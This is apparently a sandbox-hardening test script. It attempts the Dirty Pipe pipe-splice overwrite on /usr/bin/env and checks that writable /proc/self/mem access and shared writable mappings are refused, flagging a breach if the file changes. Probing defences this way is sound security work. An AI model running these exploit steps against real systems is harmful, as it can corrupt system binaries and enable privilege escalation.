# ends: by itself
# Writes into pages of system files through a pipe, and into its own mapping of them.
import mmap, os
from attack import breach, done, refused, say
path = "/usr/bin/env"
before = open(path, "rb").read()
reader, writer = os.pipe()
file = os.open(path, os.O_RDONLY)
for _ in range(16):
    os.write(writer, b"x" * 4096)
for _ in range(16):
    os.read(reader, 4096)
os.splice(file, writer, 1, offset_src=0)
os.write(writer, b"dirty")
view = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
refused("memory as a file", os.open, "/proc/self/mem", os.O_RDWR)
refused("a shared view", mmap.mmap, file, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
if open(path, "rb").read() != before:
    breach("the system's file is another")
done()
